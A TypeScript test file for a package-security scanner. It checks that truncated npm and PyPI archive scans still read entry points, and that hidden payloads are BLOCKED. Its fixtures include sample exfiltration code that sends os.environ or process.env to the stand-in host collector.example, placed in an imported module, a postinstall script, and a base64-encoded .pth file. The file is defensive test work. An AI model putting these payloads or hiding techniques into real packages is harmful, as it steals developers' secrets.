/**
 * Truncation never hides a payload. When a limit stops the first read, the files
 * that run first (install hooks, setup.py, entry points and what they import) are still read, and a
 * package whose entry points could not all be read is at best CAUTION and says what was read.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analyzeArchive, type ArchiveAnalysis } from '../../shared/packages/analysis/index.js';
import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
import { buildTgz } from '../fixtures/archives/build.js';
import { buildZip } from '../support/zip-writer.js';

const verdict = (a: ArchiveAnalysis, registry: 'npm' | 'pypi') =>
  packageVerdict(
    reviewPackage({
      registry,
      name: 'x',
      version: '1.0.0',
      analysis: a,
      integrity: { ok: true, expected: 'sha256-x', actual: 'sha256-x' },
      advisories: { status: 'ok', advisories: [] },
    }),
  ).securityLevel;

const filler = (dir: string, n: number) => Array.from({ length: n }, (_, i) => ({ path: `${dir}/data/f${i}.txt`, data: `${i}\n` }));
const PAYLOAD_PY = 'import os, urllib.request\nurllib.request.urlopen("https://collector.example/x", data=str(dict(os.environ)).encode())\n';
const BENIGN_SETUP = 'from setuptools import setup\nsetup(name="evil", version="1.0", packages=["evil"])\n';

test('the hostile 60,000-file sdist with the payload in the last file (the package __init__) is BLOCKED', async () => {
  const entries = [{ path: 'evil-1.0/setup.py', data: BENIGN_SETUP }, { path: 'evil-1.0/PKG-INFO', data: 'Name: evil\n' }, ...filler('evil-1.0', 60_000), { path: 'evil-1.0/evil/__init__.py', data: PAYLOAD_PY }];
  const a = await analyzeArchive(buildTgz(entries), { kind: 'tgz', registry: 'pypi' });
  assert.ok(a.limitsHit.includes('maxFiles'), 'the file-count limit stopped the first read');
  assert.ok(a.findings.some((f) => f.file === 'evil-1.0/evil/__init__.py' && (f.severity === 'HIGH' || f.severity === 'CRITICAL')), 'the payload was read and found');
  assert.is(verdict(a, 'pypi'), 'BLOCKED');
  assert.ok(a.coverage?.truncated);
  assert.ok(a.coverage?.entryPoints.includes('evil-1.0/evil/__init__.py'));
  assert.ok((a.coverage?.tailFilesNotRead ?? 0) > 30_000, 'the filler tail stays unread');
});

test('a payload in a module the entry point imports, and a setup.py last, are read after the limit', async () => {
  const entries = [
    { path: 'p-1.0/PKG-INFO', data: 'Name: p\n' },
    ...filler('p-1.0', 300),
    { path: 'p-1.0/p/__init__.py', data: 'from .core import run\n' },
    { path: 'p-1.0/p/core.py', data: 'from . import helper\ndef run():\n    return 1\n' },
    { path: 'p-1.0/p/helper.py', data: PAYLOAD_PY },
    { path: 'p-1.0/p/unrelated.py', data: PAYLOAD_PY.replace('collector', 'other') },
    { path: 'p-1.0/setup.py', data: BENIGN_SETUP.replace(/evil/g, 'p') },
  ];
  const a = await analyzeArchive(buildTgz(entries), { kind: 'tgz', registry: 'pypi', limits: { maxFiles: 100 } });
  assert.ok(a.findings.some((f) => f.file === 'p-1.0/p/helper.py' && f.severity !== 'INFO' && f.severity !== 'LOW'), 'the imported module was read');
  assert.not.ok(a.findings.some((f) => f.file === 'p-1.0/p/unrelated.py'), 'a module nothing imports stays in the unread tail');
  assert.ok(a.coverage?.entryPoints.includes('p-1.0/setup.py'));
  assert.is(a.coverage?.complete, true);
  assert.is(verdict(a, 'pypi'), 'BLOCKED');
});

test('npm: main, bin and the file a postinstall runs are read after the limit; a clean truncated package is MONITORED', async () => {
  const pkg = JSON.stringify({ name: 'n', version: '1.0.0', main: 'lib/main.js', bin: { n: 'cli/run.js' }, scripts: { postinstall: 'node scripts/setup.js' } });
  const files = (setup: string) => [
    { path: 'package/package.json', data: pkg },
    ...filler('package', 200),
    { path: 'package/lib/main.js', data: "module.exports = require('./util');\n" },
    { path: 'package/lib/util.js', data: 'module.exports = (a, b) => a + b;\n' },
    { path: 'package/cli/run.js', data: "#!/usr/bin/env node\nconsole.log(require('../lib/main')(1, 2));\n" },
    { path: 'package/scripts/setup.js', data: setup },
  ];
  const clean = await analyzeArchive(buildTgz(files("console.log('thanks for installing');\n")), { kind: 'tgz', registry: 'npm', limits: { maxFiles: 50 } });
  assert.is(clean.coverage?.complete, true);
  for (const p of ['package/lib/main.js', 'package/lib/util.js', 'package/cli/run.js', 'package/scripts/setup.js']) assert.ok(clean.coverage?.entryPoints.includes(p), p);
  assert.is(clean.analysisType, 'PARTIAL');
  assert.is(verdict(clean, 'npm'), 'MONITORED');

  const bad = await analyzeArchive(
    buildTgz(files("const https = require('https');\nhttps.request({ hostname: 'collector.example', method: 'POST' }).end(JSON.stringify(process.env));\n")),
    { kind: 'tgz', registry: 'npm', limits: { maxFiles: 50 } },
  );
  assert.is(verdict(bad, 'npm'), 'BLOCKED');
});

test('an entry point over the scan limit is read with the entry-point limit; past that it is CAUTION and named', async () => {
  const big = `module.exports = function add(a, b) { return a + b; };\n${'// padding\n'.repeat(20_000)}`;
  const pkg = JSON.stringify({ name: 'b', version: '1.0.0', main: 'dist/index.js' });
  const entries = [{ path: 'package/package.json', data: pkg }, { path: 'package/dist/index.js', data: big }];
  const reread = await analyzeArchive(buildTgz(entries), { kind: 'tgz', registry: 'npm', limits: { maxFileBytes: 10_000 } });
  assert.is(reread.coverage?.complete, true);
  assert.equal(reread.limitsHit, [], 'the large entry point was scanned after all');
  assert.not.ok(reread.findings.some((f) => f.ruleId === 'file_not_scanned'));

  const tooBig = await analyzeArchive(buildTgz(entries), { kind: 'tgz', registry: 'npm', limits: { maxFileBytes: 10_000, maxEntryFileBytes: 50_000 } });
  assert.is(tooBig.coverage?.complete, false);
  assert.equal(tooBig.coverage?.unread, ['package/dist/index.js']);
  assert.ok(tooBig.findings.some((f) => f.ruleId === 'entry_point_unread' && f.severity === 'MEDIUM'));
  assert.is(verdict(tooBig, 'npm'), 'CAUTION');
});

test('a wheel (zip) with its payload in a .pth file after the limit is BLOCKED', async () => {
  const entries = [
    ...Array.from({ length: 120 }, (_, i) => ({ name: `w/data${i}.py`, data: `X = ${i}\n` })),
    { name: 'w/__init__.py', data: 'X = 1\n' },
    { name: 'w-1.0.dist-info/METADATA', data: 'Name: w\n' },
    { name: 'w_init.pth', data: `import os; exec(__import__('base64').b64decode('${Buffer.from(PAYLOAD_PY).toString('base64')}'))\n` },
  ];
  const a = await analyzeArchive(buildZip(entries.map((e) => ({ ...e, method: 'deflate' as const }))), { kind: 'zip', registry: 'pypi', limits: { maxFiles: 60 } });
  assert.ok(a.coverage?.entryPoints.includes('w_init.pth'));
  assert.is(verdict(a, 'pypi'), 'BLOCKED');
});

test('a priority budget that runs out leaves the package CAUTION, naming what was not read', async () => {
  const entries = [
    { path: 'q-1.0/setup.py', data: BENIGN_SETUP.replace(/evil/g, 'q') },
    ...filler('q-1.0', 100),
    ...Array.from({ length: 30 }, (_, i) => ({ path: `q-1.0/q${i}/__init__.py`, data: `Y = ${i}\n` })),
  ];
  const a = await analyzeArchive(buildTgz(entries), { kind: 'tgz', registry: 'pypi', limits: { maxFiles: 50, maxPriorityFiles: 10 } });
  assert.is(a.coverage?.complete, false);
  assert.ok((a.coverage?.unread.length ?? 0) > 0);
  assert.is(verdict(a, 'pypi'), 'CAUTION');
});

test('a complete read lists the entry points on the coverage record', async () => {
  const pkg = JSON.stringify({ name: 'c', version: '1.0.0', exports: { '.': { import: './esm/index.mjs', require: './cjs/index.cjs' } } });
  const a = await analyzeArchive(
    buildTgz([
      { path: 'package/package.json', data: pkg },
      { path: 'package/esm/index.mjs', data: "export * from './a.mjs';\n" },
      { path: 'package/esm/a.mjs', data: 'export const a = 1;\n' },
      { path: 'package/cjs/index.cjs', data: 'exports.a = 1;\n' },
    ]),
    { kind: 'tgz', registry: 'npm' },
  );
  assert.is(a.coverage?.complete, true);
  assert.is(a.coverage?.truncated, false);
  assert.equal(a.coverage?.entryPoints, ['package/cjs/index.cjs', 'package/esm/a.mjs', 'package/esm/index.mjs', 'package/package.json']);
  assert.is(a.analysisType, 'FULL');
});

test.run();
